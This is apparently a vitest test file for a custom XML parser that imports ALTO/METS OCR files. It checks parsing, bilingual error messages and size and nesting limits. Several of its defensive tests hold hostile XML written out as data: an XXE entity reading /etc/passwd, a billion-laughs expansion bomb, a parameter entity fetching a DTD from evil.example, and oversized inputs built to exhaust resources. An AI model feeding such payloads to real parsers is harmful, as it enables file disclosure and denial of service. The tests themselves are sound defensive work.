import { describe, expect, it } from "vitest";

import { catchImportError } from "@/lib/testing/catch-import-error";

import { parseXml } from "./parse-xml";

const ALTO = `<?xml version="1.0" encoding="UTF-8"?>
<alto:alto xmlns:alto="http://www.loc.gov/standards/alto/ns-v3#" xmlns:xlink="http://www.w3.org/1999/xlink">
  <alto:Layout>
    <alto:Page ID="P1">
      <alto:PrintSpace>
        <alto:TextBlock ID="TB1">
          <alto:TextLine>
            <alto:String CONTENT="平湖&amp;嘉兴" WC='0.9'/><alto:SP/><alto:String CONTENT="&#x65E5;&#25253;" xlink:href="x"/>
          </alto:TextLine>
        </alto:TextBlock>
      </alto:PrintSpace>
    </alto:Page>
  </alto:Layout>
</alto:alto>
`;

describe("parseXml", () => {
  it("builds a tree of lower-cased local names with decoded attributes", () => {
    const root = parseXml("p1.xml", ALTO);
    expect(root.name).toBe("alto");
    const line =
      root.children[0]!.children[0]!.children[0]!.children[0]!.children[0]!;
    expect(line.name).toBe("textline");
    expect(line.children.map((c) => c.name)).toEqual([
      "string",
      "sp",
      "string",
    ]);
    expect(line.children[0]!.attrs.get("content")).toBe("平湖&嘉兴");
    expect(line.children[0]!.attrs.get("wc")).toBe("0.9");
    expect(line.children[2]!.attrs.get("content")).toBe("日报");
    expect(line.children[2]!.attrs.get("href")).toBe("x");
  });

  it("keeps text and CDATA, decoding entities in text", () => {
    const root = parseXml(
      "m.xml",
      "<a> 平湖 &lt;日报&gt; <![CDATA[<b>&amp;</b>]]></a>",
    );
    expect(root.text).toBe(" 平湖 <日报> <b>&amp;</b>");
  });

  it("matches element names whatever their case", () => {
    expect(parseXml("v1.xml", "<ALTO><LAYOUT/></ALTO>").children[0]!.name).toBe(
      "layout",
    );
  });

  it("reports truncated XML with the line it stops at", () => {
    const truncated = ALTO.slice(0, ALTO.indexOf("</alto:TextLine>") + 5);
    const e = catchImportError(() => parseXml("pinghu-p3.xml", truncated));
    expect(e.code).toBe("xml-truncated");
    expect(e.message).toBe("pinghu-p3.xml: the XML is truncated (line 9)");
    expect(e.messageZh).toBe("pinghu-p3.xml：XML 文件不完整（第 9 行）");
  });

  it("reports a file cut off after a complete line as truncated", () => {
    const e = catchImportError(() =>
      parseXml("p3.xml", ALTO.split("\n").slice(0, 10).join("\n") + "\n"),
    );
    expect(e.message).toBe("p3.xml: the XML is truncated (line 10)");
  });

  it("reports mismatched tags with their line", () => {
    const e = catchImportError(() =>
      parseXml("p1.xml", "<alto>\n<Layout>\n</alto>"),
    );
    expect(e.code).toBe("xml-malformed");
    expect(e.message).toBe(
      "p1.xml: the XML is malformed (line 3): expected </Layout> but found </alto>",
    );
    expect(e.messageZh).toBe(
      "p1.xml：XML 格式错误（第 3 行）：应为 </Layout>，却是 </alto>",
    );
  });

  it("rejects an external entity (XXE) before reading anything", () => {
    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE alto [\n  <!ENTITY x SYSTEM "file:///etc/passwd">\n]>\n<alto><Layout><Page><PrintSpace><TextBlock><TextLine><String CONTENT="&x;"/></TextLine></TextBlock></PrintSpace></Page></Layout></alto>`;
    const e = catchImportError(() => parseXml("evil.xml", xxe));
    expect(e.code).toBe("xml-entity");
    expect(e.message).toBe(
      "evil.xml: the XML declares entities (<!ENTITY …>), which Folio refuses to read for security reasons (XXE, entity expansion)",
    );
    expect(e.messageZh).toBe(
      "evil.xml：XML 文件声明了实体（<!ENTITY …>），出于安全原因拒绝读取（外部实体、实体膨胀攻击）",
    );
  });

  it("rejects billion-laughs entity expansion", () => {
    const lol = [
      '<?xml version="1.0"?>',
      "<!DOCTYPE lolz [",
      ' <!ENTITY lol "lol">',
      ...Array.from(
        { length: 9 },
        (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ""};`.repeat(10)}">`,
      ),
      "]>",
      "<lolz>&lol9;</lolz>",
    ].join("\n");
    expect(catchImportError(() => parseXml("lol.xml", lol)).code).toBe(
      "xml-entity",
    );
  });

  it("refuses parameter entities and external DTD subsets that declare entities", () => {
    const param = `<!DOCTYPE alto [\n<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd">\n%dtd;\n]>\n<alto/>`;
    expect(catchImportError(() => parseXml("p.xml", param)).code).toBe(
      "xml-entity",
    );
  });

  it("never fetches an external DTD: a DOCTYPE naming one is read without it", () => {
    const root = parseXml(
      "m.xml",
      '<!DOCTYPE mets PUBLIC "-//x//EN" "http://127.0.0.1:1/never.dtd"><mets><a>&amp;</a></mets>',
    );
    expect(root.children[0]!.text).toBe("&");
  });

  it("refuses entities it does not know instead of resolving them", () => {
    const e = catchImportError(() =>
      parseXml("p1.xml", '<alto><String CONTENT="&nbsp;"/></alto>'),
    );
    expect(e.message).toBe(
      "p1.xml: the XML is malformed (line 1): unknown entity &nbsp;",
    );
  });

  it.each([
    ["<a>&</a>", "“&” must start an entity such as &amp;"],
    ["<a x='1' x='2'/>", "attribute x is repeated in <a>"],
    ["<a x='1' p:x='2' p:x='3'/>", "attribute p:x is repeated in <a>"],
    ["<a xmlns:p='u' xmlns:p='v'/>", "attribute xmlns:p is repeated in <a>"],
    ["<!DOCTYPE a><!DOCTYPE a><a/>", "more than one DOCTYPE"],
    ["<a x=1/>", "the value of attribute x must be quoted"],
    ["<a x='<'/>", "“<” is not allowed in attribute x"],
    ["<a/><b/>", "more than one root element"],
    ["junk<a/>", "text outside the root element"],
    ["<!-- nothing -->", "no root element"],
    ["</a>", "unexpected </a>"],
  ])("rejects malformed XML: %s", (xml, detail) => {
    expect(catchImportError(() => parseXml("x.xml", xml)).message).toBe(
      `x.xml: the XML is malformed (line 1): ${detail}`,
    );
  });

  it("reports a stray “&” at its own line, even when no “;” ever follows", () => {
    expect(
      catchImportError(() => parseXml("x.xml", "<a>\n<b>R&D</b>\n</a>"))
        .message,
    ).toBe(
      "x.xml: the XML is malformed (line 2): “&” must start an entity such as &amp;",
    );
    expect(
      catchImportError(() => parseXml("x.xml", "<a>\n<b>R & D; more</b>\n</a>"))
        .message,
    ).toBe(
      "x.xml: the XML is malformed (line 2): “&” must start an entity such as &amp;",
    );
  });

  it("refuses characters XML does not allow, naming them", () => {
    expect(
      catchImportError(() =>
        parseXml("x.xml", '<a>\n<String CONTENT="a\u0001b"/></a>'),
      ).message,
    ).toBe(
      "x.xml: the XML is malformed (line 2): a character XML does not allow (U+0001)",
    );
  });

  it("allows a DOCTYPE without entity declarations", () => {
    expect(
      parseXml("m.xml", '<!DOCTYPE mets SYSTEM "mets.dtd"><mets/>').name,
    ).toBe("mets");
  });

  it("lets an unprefixed attribute win over a prefixed one, however many attributes there are", () => {
    const many = Array.from({ length: 100 }, (_, i) => ` a${i}="${i}"`).join(
      "",
    );
    const root = parseXml(
      "m.xml",
      `<r><e x:b="1" b="2"/><e b="2" x:b="1"/><e${many} x:a50="no" x:c="3"/></r>`,
    );
    expect(root.children.map((e) => e.attrs.get("b"))).toEqual([
      "2",
      "2",
      undefined,
    ]);
    expect([
      root.children[2]!.attrs.get("a50"),
      root.children[2]!.attrs.get("c"),
      root.children[2]!.attrs.get("a99"),
    ]).toEqual(["50", "3", "99"]);
  });

  it("shares one frozen attribute list among the elements that have none", () => {
    const root = parseXml("a.xml", '<r><a/><b></b><c x="1"/></r>');
    const [a, b, c] = root.children;
    expect(a!.attrs).toBe(b!.attrs);
    expect(Object.isFrozen(a!.attrs)).toBe(true);
    expect(c!.attrs).not.toBe(a!.attrs);
  });

  it("refuses an element with too many attributes, without reading them all", () => {
    // Reported: 40,000 a{i} plus 40,000 x:a{i} on one element took 2 s (20 MiB: ~20 min).
    const attrs = (prefix: string) =>
      Array.from({ length: 40_000 }, (_, i) => ` ${prefix}a${i}=""`).join("");
    const e = catchImportError(() =>
      parseXml("big.xml", `<alto>\n<Page${attrs("")}${attrs("x:")}/></alto>`),
    );
    expect(e.code).toBe("too-large");
    expect(e.message).toBe(
      "big.xml: too many attributes on <Page> (line 2); the limit is 1,000",
    );
    expect(e.messageZh).toBe(
      "big.xml：<Page> 的属性过多（第 2 行），上限为 1,000 个",
    );
  });

  it("reads 1,000 attributes on one element and still finds a repeated one", () => {
    const attrs = (n: number) =>
      Array.from({ length: n }, (_, i) => ` a${i}="${i}" x:a${i}="x${i}"`).join(
        "",
      );
    const root = parseXml("a.xml", `<r${attrs(500)}/>`);
    expect([root.attrs.get("a0"), root.attrs.get("a499")]).toEqual([
      "0",
      "499",
    ]);
    const repeated = catchImportError(() =>
      parseXml("a.xml", `<r${attrs(499)} x:a3="again"/>`),
    );
    expect(repeated.message).toBe(
      "a.xml: the XML is malformed (line 1): attribute x:a3 is repeated in <r>",
    );
  });

  it("refuses elements nested more than 256 deep, at the line where the limit is passed", () => {
    const deep = (n: number) => `${"<d>\n".repeat(n)}${"</d>".repeat(n)}`;
    expect(parseXml("ok.xml", deep(256)).name).toBe("d");
    const e = catchImportError(() => parseXml("deep.xml", deep(100_000)));
    expect(e.code).toBe("xml-malformed");
    expect(e.message).toBe(
      "deep.xml: the XML is malformed (line 257): elements are nested too deeply",
    );
    expect(e.messageZh).toBe(
      "deep.xml：XML 格式错误（第 257 行）：元素嵌套层数过多",
    );
  });

  it("refuses more than a million elements (20 MiB of <a/> took 1.2 GB as a tree)", () => {
    const e = catchImportError(() =>
      parseXml("flat.xml", `<r>${"<a/>".repeat(1_000_001)}</r>`),
    );
    expect(e.code).toBe("too-large");
    expect(e.message).toBe(
      "flat.xml: the XML has more than 1,000,000 elements (line 1); that is the limit for one file",
    );
    expect(e.messageZh).toBe(
      "flat.xml：XML 文件的元素超过 1,000,000 个（第 1 行），超出单个文件的上限",
    );
  });
});
